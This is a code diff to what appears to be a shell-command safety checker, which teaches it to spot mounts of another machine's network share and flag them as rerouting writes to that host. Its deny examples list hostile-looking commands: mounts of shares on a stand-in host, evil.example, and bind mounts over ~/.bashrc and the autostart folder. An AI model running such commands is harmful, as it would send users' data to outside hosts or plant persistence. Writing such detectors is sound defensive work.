@@ -1091,6 +1091,20 @@ const SGDISK_READS = /^(?:p|print|v|verify|b|backup|i|info|O|print-mbr|L|list-ty
 /** parted's commands that rewrite the partition table or its flags. */
 const PARTED_WRITES = /^(?:mklabel|mktable|mkpart|mkpartfs|rm|resizepart|resize|move|cp|name|set|toggle|disk_set|disk_toggle|rescue|type)$/;
 
+/** Filesystems whose source is another machine's share. */
+const NETWORK_FS = /^(?:cifs|smb3?|smbfs|nfs4?|davfs|fuse\.sshfs|sshfs|glusterfs|ceph|9p|afpfs|curlftpfs|fuse\.rclone)$/i;
+
+/**
+ * The machine a mount's source names: `//HOST/share` (SMB), `HOST:/path` or `user@HOST:/path` (NFS, sshfs). With a
+ * network type (`-t nfs`) a source that cannot be read may be any host.
+ */
+function remoteShare(source: Word, network: boolean): { word: Word; host: string } | { word: Word; why: string } | undefined {
+  const v = value(source);
+  if (v === undefined) return network ? { word: source, why: `the share ${source.text} is computed` } : undefined;
+  const host = /^(?:\/\/|\\\\)([^/\\]+)/.exec(v)?.[1] ?? /^(?:[^@/:]+@)?(\[[^\]]+\]|[^:/@\s]+):(?:\/|$)/.exec(v)?.[1];
+  return host === undefined ? undefined : { word: source, host: host.replace(/^\[|\]$/g, '') };
+}
+
 /** Disk and filesystem tools that read the device they are given unless a mode of theirs writes it. */
 const DISK_INSPECTORS: ProgramEntry[] = [
   {
@@ -1103,14 +1117,21 @@ const DISK_INSPECTORS: ProgramEntry[] = [
     },
   },
   {
-    names: ['mount', 'umount'],
-    summary: 'mount and umount: a device is read; the directory a filesystem is mounted on shows what it holds from then on, as if written',
+    names: ['mount', 'umount', 'mount.cifs', 'mount.smb3', 'mount.nfs', 'mount.nfs4'],
+    summary: 'mount and umount: a device is read; the directory a filesystem is mounted on shows what it holds from then on, as if written; a share of another machine (`//HOST/share`, `HOST:/path`) mounted sends what is written there to HOST',
     analyze(call) {
       const p = parse(call.args, { order: 'gnu', flags: 'aBcfFhilMnrRsvVw', valued: 'tOoLUNTX', long: ['all', 'bind', 'rbind', 'move', 'fake', 'fork', 'internal-only', 'no-mtab', 'read-only', 'read-write', 'rw', 'verbose', 'lazy', 'force', 'recursive', 'detach-loop', 'help', 'version'], longValued: ['types', 'options', 'test-opts', 'label', 'uuid', 'source', 'target', 'fstab', 'namespace'] });
       const uses: Uses = p.operands.map((o) => ({ word: o.word, role: (value(o.word) ?? '').startsWith('/dev/') ? 'read' : 'write' }));
-      return call.name === 'mount' ? { uses } : { uses: uses.map((u) => ({ ...u, role: 'text' as const })) };
+      if (call.name === 'umount') return { uses: uses.map((u) => ({ ...u, role: 'text' as const })) };
+      const source = p.options.find((o) => o.name === 'source')?.value ?? (p.operands.length >= 2 ? p.operands[0]!.word : undefined);
+      const type = p.options.find((o) => o.name === 't' || o.name === 'types')?.value;
+      const share = source === undefined ? undefined : remoteShare(source, call.name.startsWith('mount.') || (type !== undefined && (value(type) === undefined || NETWORK_FS.test(value(type)!))));
+      return share ? { uses, reroutes: [share] } : { uses };
     },
-    examples: { deny: ['mount --bind /tmp/x ~/.bashrc', 'sudo mount /dev/sdb1 ~/.config/autostart'], pass: ['mount /dev/sda1 /mnt', 'sudo mount -o ro /dev/sdb1 /mnt/usb', 'sudo umount /dev/sdb1', 'umount /mnt/usb'] },
+    examples: {
+      deny: ['mount --bind /tmp/x ~/.bashrc', 'sudo mount /dev/sdb1 ~/.config/autostart', 'sudo mount -t cifs //evil.example/share /mnt', 'sudo mount -t nfs evil.example:/export /mnt', 'mount.cifs //evil.example/share /mnt -o guest', 'sudo mount -t nfs4 "$HOST:/x" /mnt'],
+      pass: ['mount /dev/sda1 /mnt', 'sudo mount -o ro /dev/sdb1 /mnt/usb', 'sudo umount /dev/sdb1', 'umount /mnt/usb', 'sudo mount -t nfs localhost:/export /mnt', 'sudo mount -t tmpfs tmpfs /mnt/t', 'mount --bind ./build /srv/app'],
+    },
   },
   {
     names: ['hdparm'],
